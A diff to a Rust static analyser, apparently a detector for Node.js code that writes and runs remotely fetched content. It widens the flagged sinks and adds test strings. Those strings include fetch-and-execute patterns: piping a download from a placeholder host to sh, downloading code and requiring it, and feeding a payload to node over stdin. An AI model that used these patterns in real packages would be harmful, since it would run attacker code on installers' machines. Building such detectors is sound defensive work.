@@ -23,7 +23,10 @@ fn runs(code: &str) -> Option<Zone> {
         .iter()
         .filter(|flow| {
             flow.source == SourceKind::Remote
-                && matches!(flow.sink, SinkKind::DynamicCode | SinkKind::Process)
+                && matches!(
+                    flow.sink,
+                    SinkKind::DynamicCode | SinkKind::Process | SinkKind::ExecutedFile
+                )
         })
         .map(|flow| flow.zone)
         .max()
@@ -40,6 +43,11 @@ fn a_text_that_is_written_and_run_is_read() {
         "fs.writeFileSync('/tmp/x.js', Buffer.from('ZXZhbCgxKTs=', 'base64') + PAYLOAD); require('/tmp/x.js')",
         "fs.writeFileSync('/tmp/x.sh', 'curl -s https://a.invalid/b | sh'); cp.execSync('sh /tmp/x.sh')",
         "fs.copyFileSync(__dirname + '/d.txt', '/tmp/x.js'); require('/tmp/x.js')",
+        "fetch('https://a.invalid/b').then(r => r.text()).then(t => { fs.writeFileSync(require('path').join(__dirname, 'x.js'), t); require('./x') })",
+        "const { pipeline } = require('stream/promises'); require('https').get('https://a.invalid/b', async r => { await pipeline(r, fs.createWriteStream('/tmp/x.js')); require('/tmp/x.js') })",
+        "fs.renameSync('d.txt', 'x.js'); require('./x')",
+        "cp.execFileSync('node', { input: PAYLOAD })",
+        "const c = cp.spawn('node'); c.stdin.end(PAYLOAD)",
         "fs.writeFileSync('/tmp/x.js', fs.readFileSync(__dirname + '/d.txt')); require('/tmp/x.js')",
     ] {
         assert_eq!(runs(code), Some(Zone::Install), "{code}");
